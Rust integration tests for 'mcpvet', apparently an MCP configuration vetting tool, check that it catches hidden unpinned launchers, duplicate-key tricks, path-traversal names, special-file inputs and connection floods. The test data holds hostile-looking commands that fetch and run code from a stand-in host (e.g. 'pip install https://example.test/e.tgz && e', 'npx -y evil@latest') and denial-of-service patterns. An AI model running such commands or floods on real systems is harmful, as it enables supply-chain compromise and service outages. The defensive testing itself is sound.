//! Integration tests: configs read as their hosts read them (duplicate keys), command lines
//! looked inside (shell strings, remote tarballs, git URLs), and inputs that are not what they
//! claim to be (devices, FIFOs, huge sparse files, symlinks).

use std::path::Path;
use std::process::Command;

/// Text with every run of white space (the report wraps long lines) made one space.
fn flat(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

fn mcpvet(cwd: &Path, args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_mcpvet"))
        .args(args)
        .current_dir(cwd)
        .env("NO_COLOR", "1")
        .env_remove("SOURCE_DATE_EPOCH")
        .output()
        .expect("mcpvet runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

const POLICY: &str = r#"
require-pinned = true

[[deny]]
package = "npm:evil-pkg*"
reason = "known bad"
"#;

/// `check --policy` judges what the host would run: with two `args` (or two `command`s, two
/// servers of one name, two `mcpServers`), a JSON host runs the last one, so the policy must
/// fail on it, and the duplicate is reported at the line of the key the host uses.
#[test]
fn duplicate_key_config_cannot_pass_a_policy_its_host_would_fail() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("mcpvet.toml"), POLICY).expect("policy");
    let clean =
        r#"{"mcpServers": {"docs": {"command": "npx", "args": ["-y", "docs-server@1.2.3"]}}}"#;
    std::fs::write(dir.path().join(".mcp.json"), clean).expect("config");
    let (code, out, err) = mcpvet(
        dir.path(),
        &["check", "--policy", "mcpvet.toml", ".mcp.json"],
    );
    assert_eq!(code, 0, "the clean config passes: {out}{err}");
    let cases: [(&str, &str, u32); 4] = [
        (
            "two args",
            "{\"mcpServers\": {\"docs\": {\n  \"command\": \"npx\",\n  \"args\": [\"-y\", \"docs-server@1.2.3\"],\n  \"args\": [\"-y\", \"evil-pkg@latest\"]\n}}}\n",
            4,
        ),
        (
            "two commands",
            "{\"mcpServers\": {\"docs\": {\n  \"command\": \"docs-server\",\n  \"args\": [\"-y\", \"evil-pkg@latest\"],\n  \"command\": \"npx\"\n}}}\n",
            4,
        ),
        (
            "two servers of one name",
            "{\"mcpServers\": {\n\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-server@1.2.3\"]},\n\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"evil-pkg@latest\"]}\n}}\n",
            3,
        ),
        (
            "two mcpServers",
            "{\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"docs-server@1.2.3\"]}},\n\"mcpServers\": {\"docs\": {\"command\": \"npx\", \"args\": [\"-y\", \"evil-pkg@latest\"]}}\n}\n",
            2,
        ),
    ];
    for (what, config, line) in cases {
        std::fs::write(dir.path().join(".mcp.json"), config).expect("config");
        let (code, out, err) = mcpvet(
            dir.path(),
            &["check", "--policy", "mcpvet.toml", ".mcp.json"],
        );
        assert_eq!(
            code, 1,
            "{what}: the host runs evil-pkg@latest:\n{out}{err}"
        );
        for needle in ["denied-server", "unpinned-package", "duplicate-config-key"] {
            assert!(out.contains(needle), "{what}: no {needle} in:\n{out}");
        }
        assert!(
            out.contains(&format!(".mcp.json:{line}:")),
            "{what}: the duplicate is located at line {line}:\n{out}"
        );
        let (_, json, _) = mcpvet(
            dir.path(),
            &[
                "check",
                "--policy",
                "mcpvet.toml",
                "--format",
                "json",
                ".mcp.json",
            ],
        );
        assert!(
            !json.contains("docs-server@1.2.3\""),
            "{what}: the ignored value is not judged:\n{json}"
        );
    }
}

/// Hosts whose parser refuses duplicate keys (Codex: TOML; Continue: YAML) run nothing from
/// such a file; mcpvet refuses it too, naming the file and the line of the second key.
#[test]
fn duplicate_keys_in_toml_and_yaml_configs_are_errors_naming_the_line() {
    let dir = tempfile::tempdir().expect("tempdir");
    let codex = dir.path().join("config.toml");
    std::fs::write(
        &codex,
        "[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"-y\", \"docs-server@1.2.3\"]\nargs = [\"-y\", \"evil-pkg@latest\"]\n",
    )
    .expect("toml");
    let cont = dir.path().join(".continue").join("config.yaml");
    std::fs::create_dir_all(cont.parent().expect("parent")).expect("dir");
    std::fs::write(
        &cont,
        "name: x\nmcpServers:\n  - name: docs\n    command: npx\n    args: [\"-y\", \"docs-server@1.2.3\"]\n    args: [\"-y\", \"evil-pkg@latest\"]\n",
    )
    .expect("yaml");
    for (file, line) in [(codex, 4), (cont, 6)] {
        let (code, out, err) = mcpvet(dir.path(), &["check", file.to_str().expect("utf-8")]);
        assert_eq!(code, 2, "{}: {out}{err}", file.display());
        let want = format!("{}:{line}:", file.display());
        assert!(err.contains(&want), "{want} not in: {err}");
        assert!(err.contains("duplicate key"), "{err}");
    }
}

/// Write `{"mcpServers": {"x": {"command": …, "args": […]}}}` into `dir/.mcp.json`.
fn one_server(dir: &Path, command: &str, args: &[&str]) {
    let config = serde_json::json!({"mcpServers": {"x": {"command": command, "args": args}}});
    std::fs::write(dir.join(".mcp.json"), config.to_string()).expect("config");
}

/// An unpinned launcher anywhere in the command line is unpinned: inside `sh -c`, `bash -lc`,
/// `zsh -c`, `cmd /c` strings, as a remote tarball, as a git URL without a commit hash. Each
/// fails `require-pinned` and is named as the launch it is, not as a local command.
#[test]
fn unpinned_launchers_anywhere_in_the_command_line_fail_require_pinned() {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::write(dir.path().join("mcpvet.toml"), "require-pinned = true\n").expect("policy");
    one_server(dir.path(), "npx", &["-y", "docs-server@1.2.3"]);
    let (code, out, err) = mcpvet(
        dir.path(),
        &["check", "--policy", "mcpvet.toml", ".mcp.json"],
    );
    assert_eq!(code, 0, "a pinned launch passes: {out}{err}");
    let cases: &[(&str, &[&str], &str)] = &[
        ("sh", &["-c", "npx -y evil@latest"], "inside `sh -c`"),
        (
            "bash",
            &["-lc", "cd /srv && exec uvx evil-mcp"],
            "inside `bash -c`",
        ),
        (
            "zsh",
            &["-c", "bash -c 'pnpm dlx evil'"],
            "inside `zsh -c → bash -c`",
        ),
        ("cmd", &["/c", "npx -y evil@latest"], "inside `cmd /c`"),
        (
            "npx",
            &["-y", "https://example.test/evil.tgz"],
            "remote archive",
        ),
        (
            "npm",
            &["exec", "https://example.test/evil.tgz"],
            "remote archive",
        ),
        (
            "pnpm",
            &["dlx", "https://example.test/evil.tgz"],
            "remote archive",
        ),
        ("bunx", &["https://example.test/evil.tgz"], "remote archive"),
        (
            "uvx",
            &["--from", "https://example.test/evil.whl", "evil"],
            "remote archive",
        ),
        (
            "sh",
            &["-c", "pip install https://example.test/e.tgz && e"],
            "remote archive",
        ),
        ("npx", &["-y", "github:evil/repo"], "unpinned-git"),
        (
            "uvx",
            &["--from", "git+https://example.test/evil.git@main", "e"],
            "unpinned-git",
        ),
        (
            "sh",
            &["-c", "npx -y git+https://example.test/evil.git"],
            "unpinned-git",
        ),
    ];
    for (command, args, needle) in cases {
        one_server(dir.path(), command, args);
        let (code, out, err) = mcpvet(
            dir.path(),
            &["check", "--policy", "mcpvet.toml", ".mcp.json"],
        );
        assert_eq!(
            code, 1,
            "{command} {args:?} must fail require-pinned:\n{out}{err}"
        );
        let out = flat(&out);
        assert!(
            out.contains(needle),
            "{command} {args:?}: no {needle:?} in:\n{out}"
        );
        assert!(
            out.contains("the policy requires pinned launches"),
            "{command} {args:?}:\n{out}"
        );
    }
}

/// `scan` refuses to start an unpinned launcher hidden in a shell string or fetched as a remote
/// tarball unless `--allow-unpinned` is given, before anything runs.
#[test]
fn hidden_unpinned_launchers_are_not_launched_without_allow_unpinned() {
    let dir = tempfile::tempdir().expect("tempdir");
    let marker = dir.path().join("ran");
    let marker_s = marker.to_str().expect("utf-8");
    let shell = format!("touch {marker_s}; npx -y evil@latest");
    for argv in [
        vec!["sh", "-c", shell.as_str()],
        vec!["npx", "-y", "http://127.0.0.1:9/evil.tgz"],
    ] {
        let mut args = vec!["scan", "--"];
        args.extend(argv.iter().copied());
        let start = std::time::Instant::now();
        let (code, out, err) = mcpvet(dir.path(), &args);
        assert_ne!(code, 0, "{argv:?}: {out}{err}");
        assert!(
            format!("{out}{err}").contains("refusing to launch an unpinned package"),
            "{argv:?}: {out}{err}"
        );
        assert!(!marker.exists(), "{argv:?} was launched");
        assert!(start.elapsed() < std::time::Duration::from_secs(10));
    }
}

/// A server name is config-controlled: with `--offline --snapshot-dir DIR`, a name holding
/// `../` or an absolute path must not read a snapshot outside DIR.
#[test]
fn server_name_cannot_read_snapshots_outside_the_snapshot_dir() {
    let dir = tempfile::tempdir().expect("tempdir");
    let snaps = dir.path().join("snaps");
    std::fs::create_dir_all(&snaps).expect("dir");
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let snapshot = std::fs::read_to_string(root.join("tests/fixtures/lock/ci-insights.json"))
        .expect("fixture");
    // The snapshot a hostile name would reach, outside the folder.
    std::fs::write(dir.path().join("outside.json"), &snapshot).expect("outside");
    let outside_abs = dir.path().join("outside");
    for name in ["../outside", outside_abs.to_str().expect("utf-8")] {
        let config = serde_json::json!({"mcpServers": {name: {"command": "ci-insights"}}});
        std::fs::write(dir.path().join(".mcp.json"), config.to_string()).expect("config");
        let (code, out, err) = mcpvet(
            dir.path(),
            &["scan", "--offline", "--snapshot-dir", "snaps", ".mcp.json"],
        );
        assert_ne!(code, 0, "{name}: {out}{err}");
        assert!(
            flat(&format!("{out}{err}")).contains("cannot name a snapshot inside --snapshot-dir"),
            "{name}: {out}{err}"
        );
    }
    // A plain name still reads DIR/NAME.json.
    std::fs::write(snaps.join("ci.json"), &snapshot).expect("inside");
    let config = serde_json::json!({"mcpServers": {"ci": {"command": "ci-insights"}}});
    std::fs::write(dir.path().join(".mcp.json"), config.to_string()).expect("config");
    let (_, out, err) = mcpvet(
        dir.path(),
        &["scan", "--offline", "--snapshot-dir", "snaps", ".mcp.json"],
    );
    assert!(
        !format!("{out}{err}").contains("snapshot-dir"),
        "{out}{err}"
    );
}

/// `-o` (and every file mcpvet writes) never replaces anything but a regular file: a FIFO the
/// user named is written through, a symlink to a character device stays a symlink and the
/// device stays a device, a folder and a socket are refused and left as they were.
#[cfg(unix)]
#[test]
fn output_never_replaces_a_special_file() {
    use std::os::unix::fs::FileTypeExt;
    let dir = tempfile::tempdir().expect("tempdir");
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let config = root.join("examples/mcp.json");
    let config = config.to_str().expect("utf-8");
    let kind = |p: &Path| std::fs::symlink_metadata(p).expect("meta").file_type();

    // A FIFO: the report arrives through it, and it is still a FIFO.
    let fifo = dir.path().join("report.fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::read_to_string(fifo).expect("read fifo"))
    };
    let (_, _, err) = mcpvet(
        dir.path(),
        &["check", config, "-o", fifo.to_str().expect("utf-8")],
    );
    let got = reader.join().expect("reader");
    assert!(
        got.contains("example-tracker"),
        "nothing came through the FIFO: {err}"
    );
    assert!(kind(&fifo).is_fifo());

    // A symlink to a character device: written through, nothing replaced.
    let null = dir.path().join("null.sarif");
    std::os::unix::fs::symlink("/dev/null", &null).expect("symlink");
    let (code, _, err) = mcpvet(
        dir.path(),
        &["check", config, "-o", null.to_str().expect("utf-8")],
    );
    assert_ne!(code, 2, "{err}");
    assert!(kind(&null).is_symlink());
    assert!(kind(Path::new("/dev/null")).is_char_device());

    // A folder, a socket and a symlink to a socket are refused and left alone.
    let folder = dir.path().join("out");
    std::fs::create_dir(&folder).expect("dir");
    let sock = dir.path().join("s.sock");
    let _listener = std::os::unix::net::UnixListener::bind(&sock).expect("bind");
    let sock_link = dir.path().join("link.sock");
    std::os::unix::fs::symlink(&sock, &sock_link).expect("symlink");
    for target in [&folder, &sock, &sock_link] {
        let t = target.to_str().expect("utf-8");
        for args in [vec!["check", config, "-o", t], vec!["init", "--force", t]] {
            let (code, _, err) = mcpvet(dir.path(), &args);
            assert_eq!(code, 2, "{args:?}: {err}");
            assert!(
                err.contains(t) || err.contains("regular file"),
                "{args:?}: {err}"
            );
        }
    }
    assert!(kind(&folder).is_dir());
    assert!(kind(&sock).is_socket());
    assert!(kind(&sock_link).is_symlink());
}

/// `/dev/zero`, a FIFO, a symlink to `/dev/zero` and a sparse 10 GB file, given as a config,
/// a policy, a lockfile (committed in the lock folder) or a snapshot, each end in a clear error
/// within a second: never a hang, never unbounded memory.
#[cfg(unix)]
#[test]
fn special_and_huge_inputs_end_in_a_clear_error_within_a_second() {
    let dir = tempfile::tempdir().expect("tempdir");
    let d = dir.path();
    let clean = serde_json::json!({"mcpServers": {"ci": {"command": "ci-insights"}}});
    std::fs::write(d.join("clean.json"), clean.to_string()).expect("config");
    let root = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let snapshot = root.join("tests/fixtures/lock/ci-insights.json");
    let snapshot = snapshot.to_str().expect("utf-8");
    // Makes `path` one of the hostile kinds; returns what the error must say.
    let make = |kind: &str, path: &Path| -> &'static str {
        let _ = std::fs::remove_file(path);
        std::fs::create_dir_all(path.parent().expect("parent")).expect("dir");
        match kind {
            "fifo" => {
                nix::unistd::mkfifo(path, nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
                "a FIFO"
            }
            "zero-link" => {
                std::os::unix::fs::symlink("/dev/zero", path).expect("symlink");
                "symlink to /dev/zero"
            }
            _ => {
                let f = std::fs::File::create(path).expect("create");
                f.set_len(10 << 30).expect("sparse 10 GB");
                "over the"
            }
        }
    };
    for kind in ["fifo", "zero-link", "sparse"] {
        let cases: Vec<(std::path::PathBuf, Vec<String>)> = vec![
            (
                d.join("config/.mcp.json"),
                vec!["check".into(), "config/.mcp.json".into()],
            ),
            (
                d.join("mcpvet.toml"),
                vec![
                    "check".into(),
                    "--policy".into(),
                    "mcpvet.toml".into(),
                    "clean.json".into(),
                ],
            ),
            (
                d.join("lockfiles/ci.lock.json"),
                vec![
                    "check".into(),
                    "--lock-dir".into(),
                    "lockfiles".into(),
                    "clean.json".into(),
                ],
            ),
            (
                d.join("lockfiles/ci-insights.lock.json"),
                vec![
                    "diff".into(),
                    snapshot.into(),
                    "--lock-dir".into(),
                    "lockfiles".into(),
                ],
            ),
            (
                d.join("snaps/ci.json"),
                vec![
                    "scan".into(),
                    "--offline".into(),
                    "--snapshot-dir".into(),
                    "snaps".into(),
                    "clean.json".into(),
                ],
            ),
        ];
        for (path, args) in cases {
            let want = make(kind, &path);
            let args: Vec<&str> = args.iter().map(String::as_str).collect();
            let start = std::time::Instant::now();
            let (code, out, err) = mcpvet(d, &args);
            let took = start.elapsed();
            let said = flat(&format!("{out}{err}"));
            assert_ne!(code, 0, "{kind} {args:?}: {said}");
            assert!(
                said.contains(want),
                "{kind} {args:?}: no {want:?} in {said}"
            );
            assert!(
                said.contains(path.file_name().and_then(|f| f.to_str()).expect("name")),
                "{kind} {args:?}: the file is not named: {said}"
            );
            assert!(
                took < std::time::Duration::from_secs(1),
                "{kind} {args:?} took {took:?}"
            );
            let _ = std::fs::remove_file(&path);
        }
    }
    // /dev/zero named directly, as each kind of input.
    for args in [
        vec!["check", "/dev/zero"],
        vec!["check", "--policy", "/dev/zero", "clean.json"],
        vec!["scan", "--offline", "/dev/zero"],
    ] {
        let start = std::time::Instant::now();
        let (code, out, err) = mcpvet(d, &args);
        let said = flat(&format!("{out}{err}"));
        assert_ne!(code, 0, "{args:?}: {said}");
        assert!(
            said.contains("a device") && said.contains("/dev/zero"),
            "{args:?}: {said}"
        );
        assert!(
            start.elapsed() < std::time::Duration::from_secs(1),
            "{args:?}"
        );
    }
    // --max-file-size raises (or lowers) the cap, and the error names the flag.
    std::fs::write(
        d.join("big.json"),
        format!(
            "{{\"mcpServers\": {{}}, \"pad\": \"{}\"}}",
            "x".repeat(2 << 20)
        ),
    )
    .expect("big");
    let (code, _, err) = mcpvet(d, &["check", "--max-file-size", "1MiB", "big.json"]);
    let err = flat(&err);
    assert_eq!(code, 2, "{err}");
    assert!(
        err.contains("over the 1 MiB limit") && err.contains("--max-file-size"),
        "{err}"
    );
    let (code, _, err) = mcpvet(d, &["check", "--max-file-size", "4MiB", "big.json"]);
    assert_eq!(code, 0, "{err}");
}

/// An offline snapshot with more definitions than the cap is refused before it is built (a
/// million tools once took 2.9 GB); the error names the file, the cap and the flag that
/// raises it.
#[test]
fn snapshot_item_cap_names_the_file_the_cap_and_the_flag() {
    let dir = tempfile::tempdir().expect("tempdir");
    let tools: Vec<serde_json::Value> = (0..10_001)
        .map(|i| serde_json::json!({"name": format!("t{i}"), "inputSchema": {"type": "object"}}))
        .collect();
    let snap = serde_json::json!({"tools": tools});
    std::fs::write(dir.path().join("many.json"), snap.to_string()).expect("snapshot");
    let (code, out, err) = mcpvet(dir.path(), &["scan", "--offline", "many.json"]);
    let said = flat(&format!("{out}{err}"));
    assert_ne!(code, 0, "{said}");
    assert!(
        said.contains("many.json") && said.contains("10000") && said.contains("--max-items"),
        "{said}"
    );
    let (_, out, err) = mcpvet(
        dir.path(),
        &["scan", "--offline", "--max-items", "20000", "many.json"],
    );
    assert!(!format!("{out}{err}").contains("--max-items"), "{out}{err}");
}

/// A snapshot of a million tools (55 MB) is told and refused without building it: the whole
/// scan fits in 1 GB of address space (it once took 2.9 GB of memory).
#[cfg(unix)]
#[test]
fn a_million_tool_snapshot_is_refused_in_bounded_memory() {
    use std::io::Write as _;
    let dir = tempfile::tempdir().expect("tempdir");
    let path = dir.path().join("million.json");
    let mut w = std::io::BufWriter::new(std::fs::File::create(&path).expect("create"));
    w.write_all(b"{\"tools\":[").expect("write");
    for i in 0..1_000_000 {
        let sep = if i == 0 { "" } else { "," };
        write!(
            w,
            "{sep}{{\"name\":\"t{i}\",\"inputSchema\":{{\"type\":\"object\"}}}}"
        )
        .expect("write");
    }
    w.write_all(b"]}").expect("write");
    w.flush().expect("flush");
    drop(w);
    let bin = env!("CARGO_BIN_EXE_mcpvet");
    let out = Command::new("sh")
        .args([
            "-c",
            &format!("ulimit -v 1000000 && exec '{bin}' scan --offline million.json"),
        ])
        .current_dir(dir.path())
        .env("NO_COLOR", "1")
        .output()
        .expect("mcpvet runs");
    let said = flat(&format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    ));
    assert!(said.contains("more than 10000"), "{said}");
}

/// One real `server/discover` POST over a plain TCP socket; the status line of the answer.
fn discover_status(addr: &str) -> String {
    use std::io::{Read as _, Write as _};
    let body = r#"{"jsonrpc":"2.0","id":1,"method":"server/discover","params":{"_meta":{"io.modelcontextprotocol/protocolVersion":"2026-07-28","io.modelcontextprotocol/clientCapabilities":{}}}}"#;
    let to: std::net::SocketAddr = addr.parse().expect("address");
    let Ok(mut s) = std::net::TcpStream::connect_timeout(&to, std::time::Duration::from_secs(5))
    else {
        return "no connection within 5 s".into();
    };
    s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .expect("timeout");
    let head = format!(
        "POST /mcp HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nMCP-Protocol-Version: 2026-07-28\r\nMcp-Method: server/discover\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    s.write_all(head.as_bytes()).expect("send");
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    answer.lines().next().unwrap_or_default().to_string()
}

/// A running `ci-insights --http` under `ulimit -n LIMIT`, killed however the test ends.
struct HttpServer {
    child: std::process::Child,
    addr: String,
}

impl HttpServer {
    fn start(fd_limit: u32) -> HttpServer {
        use std::io::BufRead as _;
        let bin = env!("CARGO_BIN_EXE_ci-insights");
        let mut child = Command::new("sh")
            .args([
                "-c",
                &format!("ulimit -n {fd_limit} && exec '{bin}' --http 127.0.0.1:0"),
            ])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("ci-insights starts");
        let mut stderr = std::io::BufReader::new(child.stderr.take().expect("stderr"));
        let mut line = String::new();
        stderr.read_line(&mut line).expect("address line");
        let addr = line
            .trim()
            .strip_prefix("ci-insights listening on http://")
            .and_then(|u| u.strip_suffix("/mcp"))
            .map(str::to_string);
        let server = HttpServer {
            child,
            addr: addr.unwrap_or_default(),
        };
        assert!(!server.addr.is_empty(), "unexpected first line {line:?}");
        server
    }

    fn socket_addr(&self) -> std::net::SocketAddr {
        self.addr.parse().expect("address")
    }
}

impl Drop for HttpServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Under a low descriptor limit (`ulimit -n 128`), a few hundred connections that send
/// nothing do not starve a real request: ci-insights caps the connections it serves below
/// the limit and closes the oldest silent one to make room, so the request is answered
/// promptly.
#[cfg(unix)]
#[test]
fn half_open_connections_do_not_starve_real_requests() {
    let server = HttpServer::start(128);
    assert!(
        discover_status(&server.addr).contains(" 200"),
        "served before the flood"
    );
    let to = server.socket_addr();
    let silent: Vec<std::net::TcpStream> = (0..300)
        .filter_map(|_| {
            std::net::TcpStream::connect_timeout(&to, std::time::Duration::from_millis(200)).ok()
        })
        .collect();
    assert!(
        silent.len() >= 100,
        "only {} connections opened",
        silent.len()
    );
    let start = std::time::Instant::now();
    let status = discover_status(&server.addr);
    let took = start.elapsed();
    assert!(status.contains(" 200"), "the real request got {status:?}");
    assert!(
        took < std::time::Duration::from_secs(2),
        "the real request took {took:?}"
    );
    drop(silent);
}

/// A peer that sends half a request header is disconnected after the header-read timeout
/// (5 s), not held open.
#[cfg(unix)]
#[test]
fn a_half_sent_header_is_cut_off_after_the_header_timeout() {
    use std::io::{Read as _, Write as _};
    let server = HttpServer::start(1024);
    let mut s = std::net::TcpStream::connect(server.socket_addr()).expect("connect");
    s.write_all(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n")
        .expect("half a header");
    s.set_read_timeout(Some(std::time::Duration::from_secs(15)))
        .expect("timeout");
    let start = std::time::Instant::now();
    let mut rest = Vec::new();
    let _ = s.read_to_end(&mut rest);
    let took = start.elapsed();
    assert!(
        took < std::time::Duration::from_secs(8),
        "the connection was held {took:?}"
    );
}

/// ci-insights over stdio, fed a 500 MB line through a pipe (streamed in 1 MiB writes, never
/// held by the test), answers -32600 for it, serves the next request, and never holds the
/// line: its peak resident memory stays far below the line's size.
#[cfg(target_os = "linux")]
#[test]
fn ci_insights_stdio_discards_a_500_mb_line_without_buffering_it() {
    use std::io::{BufRead as _, Write as _};
    let mut child = Command::new(env!("CARGO_BIN_EXE_ci-insights"))
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("ci-insights starts");
    let pid = child.id();
    let mut stdin = child.stdin.take().expect("stdin");
    let writer = std::thread::spawn(move || {
        let chunk = vec![b'x'; 1 << 20];
        for _ in 0..500 {
            if stdin.write_all(&chunk).is_err() {
                return None;
            }
        }
        let next = b"\n{\"jsonrpc\":\"2.0\",\"id\":7,\"method\":\"server/discover\",\"params\":{\"_meta\":{\"io.modelcontextprotocol/protocolVersion\":\"2026-07-28\",\"io.modelcontextprotocol/clientCapabilities\":{}}}}\n";
        let _ = stdin.write_all(next);
        // Kept open until the test has read the server's memory: at end of input it exits,
        // and an exited process has no VmHWM.
        Some(stdin)
    });
    let mut out = std::io::BufReader::new(child.stdout.take().expect("stdout"));
    let mut first = String::new();
    out.read_line(&mut first).expect("first answer");
    let mut second = String::new();
    out.read_line(&mut second).expect("second answer");
    let peak_kib: u64 = std::fs::read_to_string(format!("/proc/{pid}/status"))
        .expect("status")
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM");
    let stdin = writer.join().expect("writer");
    let _ = child.kill();
    drop(stdin);
    let _ = child.wait();
    let first: serde_json::Value = serde_json::from_str(&first).expect("JSON");
    let second: serde_json::Value = serde_json::from_str(&second).expect("JSON");
    assert_eq!(first["error"]["code"], serde_json::json!(-32600), "{first}");
    assert_eq!(second["id"], serde_json::json!(7), "{second}");
    assert!(peak_kib < 64 * 1024, "peak resident memory {peak_kib} KiB");
}
